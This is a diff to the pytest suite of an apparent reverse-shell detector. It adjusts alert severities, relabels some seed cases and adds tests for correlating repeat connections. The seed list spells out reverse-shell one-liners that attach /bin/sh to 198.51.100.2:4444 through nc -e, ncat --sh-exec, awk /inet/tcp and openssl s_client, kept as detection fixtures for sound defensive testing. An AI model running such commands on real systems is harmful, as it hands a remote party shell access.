@@ -115,7 +115,7 @@ def test_sigma_bash_remote_connect_alerts_once_with_context() -> None:
     assert a["process"]["executable"] == "/usr/bin/bash" and a["process"]["pid"] == 200
     assert a["process"]["parent"]["executable"] == "/usr/sbin/sshd" and a["process"]["parent"]["pid"] == 100
     assert a["chainwatch"]["ancestry"][0]["name"] == "sshd"
-    assert a["event"]["severity"] == 73 and a["chainwatch"]["severity"] == "high"
+    assert a["event"]["severity"] == 21 and a["chainwatch"]["severity"] == "low"  # a notice: a probe
 
 
 @pytest.mark.parametrize("daddr", ["127.0.0.1", "::1", "169.254.1.1", "224.0.0.1", "0.0.0.0", "::ffff:127.0.0.1"])
@@ -224,12 +224,13 @@ SEEDS = [
     ("/usr/bin/awk", ("awk", 'BEGIN {s = "/inet/tcp/0/198.51.100.2/4444"; while (1) {s |& getline c}}'),
      None, True),
     ("/usr/bin/gawk", ("gawk", 'BEGIN {s = "/inet/tcp/0/198.51.100.2/4444"}'), None, True),
-    ("/usr/bin/openssl", ("openssl", "s_client", "-quiet", "-connect", "198.51.100.2:4444"), FIFO, True),
+    ("/usr/bin/openssl", ("openssl", "s_client", "-quiet", "-connect", "198.51.100.2:4444"), FIFO, False),
     ("/usr/bin/openssl", ("openssl", "s_client", "-connect", "198.51.100.2:443"), None, False),
     ("/usr/bin/nc", ("nc", "-e", "/bin/sh", "198.51.100.2", "4444"), None, True),
     ("/usr/bin/nc", ("nc", "-z", "-e", "/bin/sh", "198.51.100.2", "4444"), None, False),
     ("/usr/bin/nc", ("nc", "198.51.100.2", "4444"), None, False),
-    ("/usr/bin/telnet", ("telnet", "198.51.100.2", "4444"), None, True),
+    # telnet and openssl are judged by the stdio graph (a relay to a shell), not by their argv alone
+    ("/usr/bin/telnet", ("telnet", "198.51.100.2", "4444"), None, False),
     ("/usr/bin/ncat", ("ncat", "--sh-exec", "/bin/sh", "198.51.100.2", "4444"), None, True),
     ("/usr/bin/python3", ("python3", "-c", "print('hello')"), None, False),
     ("/usr/bin/perl", ("perl", "-e", "print 1"), None, False),
@@ -277,7 +278,8 @@ def test_stdio_dups_one_incident_one_line() -> None:
     check_contract(w.alerts[0])
     assert w.alerts[0]["chainwatch"]["signals"] == ["stdio_to_socket"]
     assert w.alerts[0]["destination"] == {"ip": REMOTE, "port": 4444}
-    assert w.engine.stats() == {"signals": 3, "alerts": 1, "alerts_suppressed": 2}
+    # fd 0 makes it read its commands from the socket; fds 1 and 2 alone are a redirection (a port probe)
+    assert w.engine.stats() == {"signals": 1, "alerts": 1, "alerts_suppressed": 0}
 
 
 @pytest.mark.parametrize("family,daddr", [("unix", ""), ("ipv4", "127.0.0.1"), ("ipv6", "::1")])
@@ -425,13 +427,16 @@ def test_correlation_unrelated_shells_two_incidents() -> None:
 
 
 def test_correlation_repeat_signal_suppressed() -> None:
-    """The same shell connecting again to the same kind of place writes no second line."""
+    """The same shell connecting again to the same place writes no second line; a new destination does."""
     w = World()
     w.bash()
     w.connect(200, REMOTE, 4444, t=1)
-    w.connect(200, REMOTE, 4445, t=2)
+    w.connect(200, REMOTE, 4444, t=2)
     assert len(w.alerts) == 1
     assert w.engine.stats()["alerts_suppressed"] == 1
+    w.connect(200, REMOTE, 4445, t=3)
+    assert len(w.alerts) == 2 and w.alerts[1]["destination"] == {"ip": REMOTE, "port": 4445}
+    assert w.alerts[0]["chainwatch"]["incident"] == w.alerts[1]["chainwatch"]["incident"]
 
 
 def test_all_scenarios_meet_contract_and_severity_scale() -> None:
